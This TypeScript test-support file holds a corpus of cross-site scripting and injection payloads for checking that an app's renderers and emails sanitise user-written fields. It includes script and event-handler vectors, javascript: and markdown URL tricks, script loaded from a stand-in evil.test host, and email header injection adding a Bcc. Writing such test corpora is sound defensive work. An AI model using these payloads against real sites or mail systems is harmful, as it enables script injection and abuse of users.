/**
 * The XSS corpus (test support only: imported by tests, never by application code, so no
 * bundle ships it). One list of payloads every user-written field is tested with — titles,
 * descriptions, comments, names, email subjects — on every surface that shows them: the comment
 * renderer (`conversation/renderCommentHtml.xss.test.ts`), the board, the ticket drawer, the
 * share page and the emails (each surface's `*.xss.test.ts[x]`).
 *
 * The groups aim at markup (tags, handlers, script URLs, markdown links, entity and parser
 * tricks, SVG/MathML, mentions, code spans) and, at the end, at plain-text surfaces: header
 * injection in email subjects, breaking out of `<title>`/`<style>`/`<textarea>`, template and
 * replacement-pattern syntax, bidirectional and zero-width characters, very long strings.
 *
 * Every payload holds at least one non-blank character, so each is a valid title once trimmed.
 */

const SCRIPT_TAGS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>',
  '<script src=//evil.test/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</p><script>alert(1)</script>',
  '<script/xss src=x></script>',
  '<<script>alert(1);//<</script>',
  '<script\ttype="text/javascript">alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr\u0000ipt>alert(1)</script>',
];

const EVENT_HANDLERS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover=alert(1)>x</div>',
  '<a onclick=alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<iframe onload=alert(1)>',
  '<object data=x onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<style onload=alert(1)>',
  '<form><button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<div style="x:expression(alert(1))">',
  '<x onpointerover=alert(1)>hover</x>',
];

const HTML_URLS: readonly string[] = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<iframe src="javascript:alert(1)">',
  '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<img src="javascript:alert(1)">',
];

const MARKDOWN_URLS: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0000javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.test)',
  '[x](https://ok.test" onmouseover="alert(1))',
  "[x](https://ok.test' onmouseover='alert(1))",
  '[x](https://ok.test"onmouseover="alert(1))',
  '[x](https://ok.test/<script>)',
  '[x](https://ok.test/`onmouseover=alert(1)`)',
  '[x](<javascript:alert(1)>)',
  '[x](javascript:alert(1) "title")',
  '[x](https://ok.test "onmouseover=alert(1)")',
  '[x](mailto:javascript:alert(1))',
  '[x](mailto:a@b.test"onclick="alert(1))',
  '[x](https:javascript:alert(1))',
  '[x](http:\\\\evil.test)',
  '![x](javascript:alert(1))',
  '![x](https://evil.test/x.png" onerror="alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
];

const NESTED_LINKS: readonly string[] = [
  '[[x](https://ok.test)](javascript:alert(1))',
  '[x](https://ok.test)(javascript:alert(1))',
  '[x](javascript:alert(1))(https://ok.test)',
  '[a [b](https://ok.test) c](javascript:alert(1))',
  '[**x](javascript:alert(1))**',
  '[`x`](javascript:alert(1))',
  '[x](https://ok.test)[y](javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](https://ok.test)',
  '[x](https://ok.test/?q=<script>alert(1)</script>)',
  '**[x](javascript:alert(1))**',
  '[x](https://ok.test/) onclick=alert(1)',
  '[[[[[[x](javascript:alert(1))]]]]]',
  '[x](https://ok.test/)"><img src=x onerror=alert(1)>',
  '[x](https://ok.test/\\"onmouseover=alert(1))',
  '[![x](https://ok.test)](javascript:alert(1))',
  '[https://ok.test/"onmouseover="alert(1)](https://ok.test)',
];

const ENTITY_TRICKS: readonly string[] = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '&#0000060script&#0000062alert(1)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&amp;lt;script&amp;gt;',
  '<img src=x onerror="&#x61;lert(1)">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x6A;avascript:alert(1)',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '&#9;javascript:alert(1)',
  '<a href="&#x26;#x6A;avascript:alert(1)">x</a>',
  '&quot;&gt;&lt;svg onload=alert(1)&gt;',
];

const SVG_AND_MATHML: readonly string[] = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math href="javascript:alert(1)">x</math>',
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  '<svg><image href=x onerror=alert(1)>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
];

const MENTION_TRICKS: readonly string[] = [
  '<@AAAAAAAAAAAAAAAA onmouseover=alert(1)>',
  '<@AAAAAAAAAAAAAAA"><script>alert(1)</script>',
  '<@<script>alert(1)</script>>',
  '<@AAAAAAAAAAAAAAAA><img src=x onerror=alert(1)>',
  '<@AAAAAAAAAAAAAAAA>" onclick="alert(1)',
  '<@javascript:alert(1)>',
  '<@../../etc/passwd>',
  '<@AAAAAAAAAAAAAAAA>>',
];

const CODE_TRICKS: readonly string[] = [
  '`</code><script>alert(1)</script>`',
  '```\n</pre><script>alert(1)</script>\n```',
  '``` onmouseover=alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '~~~\n<svg onload=alert(1)>\n~~~',
  '```"><script>alert(1)</script>\nx```',
  '`` ` `` <script>alert(1)</script>',
  '```\n```<script>alert(1)</script>',
];

const AUTOLINK_TRICKS: readonly string[] = [
  'https://ok.test/"><script>alert(1)</script>',
  "https://ok.test/'onmouseover='alert(1)",
  'https://ok.test/<img src=x onerror=alert(1)>',
  'https://ok.test/`onmouseover=alert(1)`',
  'http://javascript:alert(1)',
  'https://ok.test/\u0000<script>alert(1)</script>',
  'javascript://ok.test/%0aalert(1)',
  'https://ok.test/&quot;onmouseover=&quot;alert(1)',
  'https://ok.test/(<script>alert(1)</script>)',
  'HTTPS://OK.TEST/"ONMOUSEOVER="ALERT(1)',
];

const MARKUP_TRICKS: readonly string[] = [
  '<!--<script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<style>@import 'javascript:alert(1)';</style>",
];

/** Line breaks where a header ends: an email subject must stay one line. */
const HEADER_INJECTION: readonly string[] = [
  'Orçamento\r\nBcc: ataque@evil.test',
  'Orçamento\nBcc: ataque@evil.test',
  'Orçamento\rBcc: ataque@evil.test',
  'Orçamento\r\n\r\n<script>alert(1)</script>',
  'x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>',
  'Orçamento%0d%0aBcc:%20ataque@evil.test',
  'Orçamento\u2028Bcc: ataque@evil.test',
  'Orçamento\u0085Bcc: ataque@evil.test',
  '=?utf-8?q?Or=C3=A7amento=0D=0ABcc:_ataque@evil.test?=',
  'Orçamento\r\n To: outro@evil.test',
];

/** Closing the element a plain text sits in (document title, style, text area, comment). */
const CONTEXT_BREAKOUTS: readonly string[] = [
  '</title><img src=x onerror=alert(1)>',
  '</style><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '</option></select><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '</head><body onload=alert(1)>',
  '</pre></code></p></div></li></ol></article></main></body></html><script>alert(1)</script>',
];

/** Syntax some template engine or string replacement could read as its own. */
const TEMPLATE_TRICKS: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  '{{{<img src=x onerror=alert(1)>}}}',
  '{title} {name} {url} {count} {agency}',
  '$& $` $\' $1 $$',
  '{{#each this}}<script>alert(1)</script>{{/each}}',
];

/** Characters that reorder or hide text around markup. */
const INVISIBLE_AND_BIDI: readonly string[] = [
  '\u202Egnp.exe<script>alert(1)</script>',
  '\u200B<script>\u200Balert(1)\u200B</script>',
  '\u2066<img src=x onerror=alert(1)>\u2069',
  '\uFEFF<svg onload=alert(1)>',
  '\u200D\u200C<a href="javascript:alert(1)">x</a>',
  'Título\u0301\u0301\u0301 <b>x</b>',
];

/** Long strings: one that fits a title (200 characters), one only long texts take. */
const LONG_STRINGS: readonly string[] = [
  `${'<b>'.repeat(60)}<script>alert(1)</script>`.slice(0, 200),
  '<img src=x onerror=alert(1)>'.repeat(400),
];

/** Markup, markdown and parser tricks. */
export const MARKUP_PAYLOADS: readonly string[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...HTML_URLS,
  ...MARKDOWN_URLS,
  ...NESTED_LINKS,
  ...ENTITY_TRICKS,
  ...SVG_AND_MATHML,
  ...MENTION_TRICKS,
  ...CODE_TRICKS,
  ...AUTOLINK_TRICKS,
  ...MARKUP_TRICKS,
];

/** Aimed at fields shown as plain text and at email headers. */
export const PLAIN_TEXT_PAYLOADS: readonly string[] = [
  ...HEADER_INJECTION,
  ...CONTEXT_BREAKOUTS,
  ...TEMPLATE_TRICKS,
  ...INVISIBLE_AND_BIDI,
  ...LONG_STRINGS,
];

/** The whole corpus, every payload distinct. */
export const XSS_PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...PLAIN_TEXT_PAYLOADS];

/** The payloads a field of at most `maxLength` characters accepts. */
export function payloadsFitting(maxLength: number): readonly string[] {
  return XSS_PAYLOADS.filter((payload) => payload.length <= maxLength);
}
